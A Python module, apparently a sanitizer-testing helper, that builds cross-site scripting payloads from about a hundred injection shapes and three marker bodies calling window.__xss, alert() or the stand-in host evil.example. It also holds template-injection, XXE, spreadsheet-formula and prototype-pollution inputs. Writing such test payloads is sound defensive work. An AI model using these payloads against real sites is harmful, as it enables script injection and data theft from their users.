"""Script payloads: what tries to run, and how it tries to get out of the text it stands in.

Whatever runs says so: it sets `window.__xss`, opens a dialog, or asks `evil.example` for a file.
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "evil.example"
BODIES = (
    "window.__xss='{n}'",
    "alert('{n}')",
    "new Image().src='//evil.example/{n}'",
)
"""What a payload does when it runs. No body has a double quote, a space or an angle bracket."""

SHAPES = (
    # Elements that run or load at once.
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    "<script src=//evil.example/{n}.js></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\x0c>{js}</script\t>",
    "<img src=x onerror={js}>",
    '<img src="//evil.example/{n}.png">',
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math href='javascript:{js}'>x</math>",
    "<body onload={js}>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{js}&lt;/script&gt;'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='//evil.example/{n}.swf'>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<marquee onstart={js}>",
    "<div style='background:url(//evil.example/{n})' onmouseover={js}>x</div>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<link rel=stylesheet href='//evil.example/{n}.css'>",
    "<link rel=preload as=image href='//evil.example/{n}.png'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href='//evil.example/'>",
    "<form action='javascript:{js}'><button autofocus>x</button></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<a href='javascript:{js}'>x</a>",
    "<template><script>{js}</script></template>",
    "<portal src='//evil.example/{n}'>",
    "<x onpointerenter={js} contenteditable autofocus onfocus={js}>",
    # Out of an attribute, a title, a text area, a comment, a script.
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '" autofocus onfocus="{js}" x="',
    "' onmouseover='{js}' x='",
    '"><svg onload={js}>',
    "`><img src=x onerror={js}>",
    "</title><script>{js}</script>",
    "</textarea><img src=x onerror={js}>",
    "</style><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
    "</script><script>{js}</script>",
    "<!--<script>{js}",
    "';{js};//",
    '";{js};//',
    "\\';{js};//",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\u2028{js}\u2029//",
    "</noscript><img src=x onerror={js}>",
    "</select></table><svg onload={js}>",
    # Encoded once or twice, in the hope that somebody decodes.
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "＜script＞{js}＜/script＞",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<img\u00a0src=x\u00a0onerror={js}>",
    "\u202e<img src=x onerror={js}>\u202c",
    "<ſcript>{js}</ſcript>",
    # Markdown, and what some readers of it allow.
    "[x](javascript:{js})",
    "![x](https://evil.example/{n}.png)",
    "![x][r]\n\n[r]: https://evil.example/{n}.png",
    "<javascript:{js}>",
    '[x](https://a.cn "\' onmouseover={js}")',
    "```html onload={js}\n<img src=x onerror={js}>\n```",
    "# x {{onclick={js}}}",
    "| <img src=x onerror={js}> | x |",
    "<!-- {n} --><img src=x onerror={js}>",
    "~~~\n~~~\n<script>{js}</script>",
    "[x]: <javascript:{js}>",
    # Templates.
    "{{{{ ''.__class__.__mro__ }}}}<script>{js}</script>",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "{{% include '/etc/passwd' %}}{{{{ config }}}}",
    "${{{js}}}",
    "<%= {js} %>",
    "{{{{constructor.constructor(\"{js}\")()}}}}",
    # Addresses.
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\nscript:{js}",
    "\x01javascript:{js}",
    "javascript://a.cn/%0a{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "//evil.example/{n}",
    'http://a.cn/"onmouseover="{js}',
    "https://evil.example/<svg onload={js}>",
    "https://user@evil.example:80/{n}",
    "view-source:javascript:{js}",
    # Data formats.
    "=HYPERLINK(\"http://evil.example/{n}\",\"x\")",
    "@SUM(1)|cmd",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/{n}'>]>&e;",
    "<?xml-stylesheet href='//evil.example/{n}.xsl'?>",
    "<xsl:script>{js}</xsl:script>",
    "__proto__",
    "constructor",
    "</p></div></main></body></html><script>{js}</script>",
)  # fmt: skip


def payloads(count: int) -> Iterator[str]:
    """So many payloads, every shape once before any comes again with another body."""
    for number in range(count):
        shape = SHAPES[number % len(SHAPES)]
        body = BODIES[(number + number // len(SHAPES)) % len(BODIES)]
        yield shape.format(js=body.format(n=f"p{number}"), n=f"p{number}")
